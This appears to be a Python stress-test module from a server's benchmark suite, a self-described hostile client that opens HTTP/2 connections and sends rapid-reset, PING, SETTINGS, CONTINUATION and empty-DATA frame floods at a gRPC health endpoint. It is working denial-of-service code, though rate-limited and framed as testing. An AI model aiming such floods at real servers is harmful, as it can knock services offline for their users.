"""A hostile client for the bench: floods over connections of HTTP/2, at a bounded rate.

`python -m bench.abuse HOST:PORT SECONDS`
"""

import itertools
import socket
import sys
import time
from collections.abc import Iterator
from contextlib import suppress

__all__ = ["CONNECTIONS_PER_SECOND", "FRAMES"]

CONNECTIONS_PER_SECOND = 20
FRAMES = 2000  # of one connection
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = b"\0\0\0\x08"


def main() -> None:
    """Attack for some seconds."""
    host, _, port = sys.argv[1].rpartition(":")
    end = time.monotonic() + float(sys.argv[2])
    floods = itertools.cycle((_rapid_reset, _pings, _settings, _continuations, _empty_data))
    while (began := time.monotonic()) < end:
        with (
            suppress(OSError),  # the server ends the connection
            socket.create_connection((host, int(port)), timeout=1.0) as connection,
        ):
            connection.sendall(PREFACE + _frame(SETTINGS) + b"".join(next(floods)()))
        time.sleep(max(0.0, began + 1 / CONNECTIONS_PER_SECOND - time.monotonic()))


def _frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def _headers() -> bytes:
    """Return the headers of a health check as HPACK literals."""
    fields = {
        b":method": b"POST",
        b":scheme": b"http",
        b":path": b"/grpc.health.v1.Health/Check",
        b":authority": b"bench",
        b"content-type": b"application/grpc",
        b"te": b"trailers",
    }
    return b"".join(
        b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
        for name, value in fields.items()
    )


def _rapid_reset() -> Iterator[bytes]:
    block = _headers()
    for stream in range(1, 2 * FRAMES, 2):
        yield _frame(HEADERS, END_HEADERS, stream, block)
        yield _frame(DATA, END_STREAM, stream, bytes(5))
        yield _frame(RST_STREAM, 0, stream, CANCEL)


def _pings() -> Iterator[bytes]:
    yield _frame(PING, payload=bytes(8)) * FRAMES


def _settings() -> Iterator[bytes]:
    yield _frame(SETTINGS) * FRAMES


def _continuations() -> Iterator[bytes]:
    yield _frame(HEADERS, 0, 1, _headers())
    yield _frame(CONTINUATION, 0, 1) * FRAMES


def _empty_data() -> Iterator[bytes]:
    yield _frame(HEADERS, END_HEADERS, 1, _headers())
    yield _frame(DATA, 0, 1) * FRAMES


if __name__ == "__main__":
    main()
